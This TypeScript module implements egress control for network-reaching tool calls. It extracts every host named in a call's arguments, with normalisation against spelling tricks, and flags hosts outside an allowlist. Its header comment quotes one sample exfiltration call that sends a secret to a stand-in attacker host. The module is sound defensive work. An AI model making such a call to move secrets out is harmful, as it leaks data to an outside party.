/**
 * Egress (docs/guide/security.md "Egress"): where a call of a tool that reaches the network sends
 * its arguments. A read is still a send: `fetch_page("https://evil.example/?q=<secret>")` carries
 * the secret out without writing anything. Destinations are judged by the parsed URL's host, never
 * by how it is spelled (case, a trailing dot, percent-encoding, IDN, `user@` before the host, an
 * IPv4 address written in hex). Pure.
 */
import type { JsonValue } from "../protocol/json.ts";
import { normalizeForTaint, taintTokens } from "./taint.ts";

const URL_IN_TEXT = /[a-z][a-z0-9+.-]{0,15}:\/\/[^\s<>"'`\\]+|(?<![a-z0-9+.-])\/\/[^\s<>"'`\\/]+/gi;

/** The host of `candidate` as the URL parser reads it (absolute, or `//host`), without a trailing dot. */
function hostOf(candidate: string, base?: string): string | undefined {
  try {
    const url = base === undefined ? new URL(candidate) : new URL(candidate, base);
    return url.hostname === "" ? undefined : url.hostname.replace(/\.$/, "");
  } catch {
    return undefined;
  }
}

function strings(value: JsonValue, out: string[]): void {
  if (typeof value === "string") out.push(value);
  else if (Array.isArray(value)) for (const item of value) strings(item, out);
  else if (value !== null && typeof value === "object") for (const item of Object.values(value)) strings(item, out);
}

/**
 * The hosts a call's `input` names, in order, once each: every absolute URL (or `//host`) in a
 * string value, by the URL parser; and, in what is left of the text, every domain or e-mail
 * domain, since a fetcher may well take `evil.example/x` without a scheme. Over-counting is the
 * safe side: a destination that is not allowed holds the call.
 */
export function callDestinations(input: JsonValue): string[] {
  const found = new Set<string>();
  const values: string[] = [];
  strings(input, values);
  for (const value of values) {
    const rest = value.replace(URL_IN_TEXT, (match) => {
      const host = hostOf(match, match.startsWith("//") ? "https://x" : undefined);
      if (host !== undefined) found.add(host);
      return " ";
    });
    for (const { kind, token } of taintTokens(normalizeForTaint(rest, true), Number.POSITIVE_INFINITY)) {
      if (kind !== "domain" && kind !== "email") continue;
      const host = hostOf(`http://${kind === "email" ? token.slice(token.lastIndexOf("@") + 1) : token}/`);
      if (host !== undefined) found.add(host);
    }
  }
  return [...found];
}

/** Whether `host` (as the URL parser writes it) is in `allowed`: exactly, or under a `*.domain` entry. */
export function isAllowedHost(host: string, allowed: readonly string[]): boolean {
  const bare = host.replace(/\.$/, "");
  return allowed.some((entry) => (entry.startsWith("*.") ? bare.endsWith(entry.slice(1)) : bare === entry));
}

/**
 * The destinations of a call that are not allowed: every host it names (plus the tool's own fixed
 * `hosts`) outside `allowed`; a call that names no host at all has one unknown destination, `?`,
 * which no list allows.
 */
export function disallowedDestinations(
  input: JsonValue,
  allowed: readonly string[],
  hosts: readonly string[] = [],
): string[] {
  const all = [...new Set([...hosts.map((host) => host.toLowerCase().replace(/\.$/, "")), ...callDestinations(input)])];
  if (all.length === 0) return ["?"];
  return all.filter((host) => !isAllowedHost(host, allowed));
}
